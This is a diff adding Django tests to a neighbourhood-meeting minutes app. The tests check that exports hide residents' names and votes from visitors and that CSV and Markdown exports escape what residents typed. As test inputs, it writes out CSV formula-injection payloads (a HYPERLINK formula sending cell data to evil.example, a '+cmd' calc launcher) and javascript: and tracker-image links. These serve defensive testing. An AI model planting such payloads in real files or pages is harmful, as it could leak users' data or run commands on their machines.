@@ -114,3 +114,103 @@ def test_the_resolution_shows_the_satisfaction_of_its_action_items(world, voted)
     body = Client().get(f"/minutes/{voted.pk}/").content.decode()
     section = body[body.index('id="h-resolutions"'):body.index('id="h-actions"')]
     assert "满意度 50%（2 人评价，平均 3.0/5 分）" in section
+
+
+# --- What a visitor may read (issue 14): no export shows more than the minutes page ----------
+
+NAMES = {"resident": "王秀英", "resident2": "李建国", "outsider": "张伟"}
+
+
+@pytest.fixture
+def named_vote(world):  # type: ignore[no-untyped-def]
+    """The public minutes of an open ballot whose three online voters have real names."""
+    for attr, name in NAMES.items():
+        user = getattr(world, attr)
+        user.first_name = name
+        user.save()
+    session = voted_session(world)
+    assert {v["name"] for v in session.motions.get().resolution.data["voters"]} == set(NAMES.values())  # voting has them
+    item = session.agenda_items.get()
+    services.minutes_draft_save(session=session, by=world.moderator, summaries={str(item.pk): "同意夜间划线。"}, visibility=Visibility.PUBLIC)
+    return services.minutes_publish(session=session, by=world.moderator)
+
+
+def _client(user=None) -> Client:  # type: ignore[no-untyped-def]
+    client = Client()
+    if user is not None:
+        client.force_login(user)
+    return client
+
+
+def _exports(client: Client, record_id: int) -> dict[str, str]:
+    return {
+        name: client.get(f"/minutes/{record_id}/{path}").content.decode("utf-8-sig")
+        for name, path in (("page", ""), ("json", "minutes.json"), ("markdown", "minutes.md"), ("csv", "votes.csv"))
+    }
+
+
+def test_no_export_names_how_residents_voted_to_a_visitor(world, named_vote) -> None:  # type: ignore[no-untyped-def]
+    for reader in (None, world.other_resident, world.other_moderator, world.observer):
+        bodies = _exports(_client(reader), named_vote.pk)
+        assert "1号楼居民" in bodies["page"]  # the page shows residents by building only …
+        for kind, body in bodies.items():  # … and so does every export, for visitors and members alike
+            for name in NAMES.values():
+                assert name not in body, (reader, kind, name)
+    data = json.loads(_exports(_client(), named_vote.pk)["json"])
+    assert "redacted" not in data  # nothing was taken out: the export re-hashes to the seal
+    assert chain.content_hash(chain.canonical_json(data["record"])) == named_vote.content_hash
+    assert data["record"]["minutes"]["schema"] == "agora.minutes/2"
+    assert "voters" not in data["record"]["minutes"]["motions"][0]["result"]
+
+
+def test_a_record_sealed_before_version_2_names_voters_to_members_only(world, named_vote) -> None:  # type: ignore[no-untyped-def]
+    from tests.minutes.helpers import reseal_as_version_1
+
+    voters = [{"name": name, "choice": [1]} for name in NAMES.values()]
+    old = reseal_as_version_1(named_vote, voters=voters)
+    for reader in (None, world.other_resident, world.other_moderator):
+        data = json.loads(_client(reader).get(f"/minutes/{old.pk}/minutes.json").content)
+        jsonschema.validate(data, SCHEMA)
+        assert data["redacted"] == ["minutes.motions[].result.voters"]
+        assert "voters" not in data["record"]["minutes"]["motions"][0]["result"]
+        assert not any(name in json.dumps(data, ensure_ascii=False) for name in NAMES.values())
+    member = json.loads(_client(world.resident2).get(f"/minutes/{old.pk}/minutes.json").content)
+    jsonschema.validate(member, SCHEMA)
+    assert "redacted" not in member and member["record"]["minutes"]["motions"][0]["result"]["voters"] == voters
+    assert chain.content_hash(chain.canonical_json(member["record"])) == old.content_hash
+
+
+# --- Spreadsheets and Markdown readers never run what a resident typed ---------------------
+
+
+def test_csv_cells_that_would_start_a_formula_are_text(world) -> None:  # type: ignore[no-untyped-def]
+    from agora.csv_safe import spreadsheet_cell
+    from voting.models import Motion
+
+    for dangerous in ('=HYPERLINK("http://evil.example","点我")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"):
+        assert spreadsheet_cell(dangerous) == "'" + dangerous
+    assert spreadsheet_cell("东门划线") == "东门划线" and spreadsheet_cell(-3) == -3 and spreadsheet_cell("a=b") == "a=b"
+    session = voted_session(world)
+    Motion.objects.filter(session=session).update(text='=HYPERLINK("http://evil.example/?x="&A1,"点我")')
+    record = services.minutes_publish(session=session, by=world.moderator)
+    body = _client(world.observer).get(f"/minutes/{record.pk}/votes.csv").content.decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(body)))
+    assert len(rows) == 3
+    assert {r["motion"] for r in rows} == {"'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")"}
+    assert all(r["online"].isdigit() and r["total"].isdigit() for r in rows)  # numbers stay numbers
+
+
+def test_markdown_escapes_table_pipes_and_emits_no_links_or_images(world) -> None:  # type: ignore[no-untyped-def]
+    from agora.models import Building
+
+    Building.objects.filter(community=world.community, name="1号楼").update(name="1号楼 | 东区")
+    record = published(
+        world,
+        summary="看这里 [点我](javascript:alert(1)) 和 ![](https://tracker.example/pixel.png) 以及 <javascript:alert(2)>",
+        texts=("[领奖](javascript:alert(document.cookie))", "![x](http://evil.example/a.png)", "[ref]: javascript:alert(3)"),
+    )
+    body = Client().get(f"/minutes/{record.pk}/minutes.md").content.decode()
+    assert "| 1号楼 \\| 东区 |" in body  # one cell, not two
+    assert "](javascript:" not in body and "](http" not in body and "<javascript:" not in body
+    assert "![" not in body and "\n[ref]:" not in body
+    assert "看这里 \\[点我\\]\\(javascript:alert\\(1\\)\\)" in body  # the words are there, as typed
